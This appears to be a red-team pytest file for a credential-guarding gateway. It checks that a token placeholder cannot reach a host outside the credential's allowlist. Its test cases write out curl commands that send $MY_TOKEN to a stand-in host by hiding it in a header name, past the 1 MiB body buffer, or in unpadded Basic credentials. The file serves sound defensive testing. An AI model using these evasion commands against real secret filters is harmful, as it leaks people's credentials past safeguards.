"""Red team 13: the placeholder reaches a host that is not the credential's, undenied and
unmarked. The gate looks for placeholders in header values, Basic credentials, the path and
query and a buffered body; a request carries it in other places too, and the second server's
record shows it arrived: in a header's name (the server's record lower-cases names; the gate sends it as
the step spelled it) and in a body past the part the
gate buffers (BODY_CAP, 1 MiB), which is streamed on unseen. The issue promises: a placeholder
seen in a request to any host not in the credential's hosts is denied before it leaves and the
step is marked credential-misuse."""

import json
import shutil

import pytest

from gatekit import hostport, netproject, servers
from harness import CANARY, attacker  # noqa: F401  (the fixture)

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")


def _setup(attacker, git, stub):
    attacker.env["MY_TOKEN"] = CANARY                # the person's token, outside only
    netproject(attacker, git, stub,
               f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hostport(git)}\"]\n")
    return f"https://{hostport(stub, 'stub.example.test')}"


def _reached(srv, needle):
    return [q for q in srv.requests
            if needle.lower() in json.dumps({k: v for k, v in q.items() if k != "body"}).lower() or
            needle.encode() in q["body"]]


@pytest.mark.parametrize("how", [
    # the placeholder as a header's name
    "curl -s -o /dev/null -H \"$MY_TOKEN: 1\" {url}/",
    # the placeholder in a body, past the buffered first MiB
    "head -c 8000000 /dev/zero | tr '\\0' a > /tmp/big && printf 'token=%s' \"$MY_TOKEN\" >> /tmp/big && "
    "curl -s -o /dev/null --data-binary @/tmp/big {url}/",
])
def test_the_placeholder_does_not_reach_another_host(attacker, how):
    with servers() as (git, stub):
        url = _setup(attacker, git, stub)
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        assert ph and ph != CANARY
        attacker.run(how.format(url=url))
        got = _reached(stub, ph)
        assert not got, f"the placeholder reached {url}: {[(q['method'], q['path']) for q in got]}"


def _lenient_b64(text):
    """What Node's Buffer.from(x, 'base64') (Express basic-auth, …) reads: padding optional."""
    import base64
    return base64.b64decode(text + "=" * (-len(text) % 4)).decode("latin-1", "replace")


def test_unpadded_basic_credentials_are_seen(attacker):
    """Basic credentials are looked into only when their base64 is strict (validate=True, with
    padding); servers that decode leniently (Node's Buffer, many others) read the placeholder
    from unpadded base64 just the same."""
    import base64
    with servers() as (git, stub):
        url = _setup(attacker, git, stub)
        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
        user = next(u for u in ("a", "ab", "abc") if (len(u) + 1 + len(ph)) % 3)
        b64 = base64.b64encode(f"{user}:{ph}".encode()).decode().rstrip("=")
        attacker.run(f"curl -s -o /dev/null -H 'Authorization: Basic {b64}' {url}/")
        got = [q for q in stub.requests if ph in _lenient_b64(
            q["headers"].get("authorization", "Basic ").partition(" ")[2])]
        assert not got, "the placeholder reached another host in Basic credentials without padding"
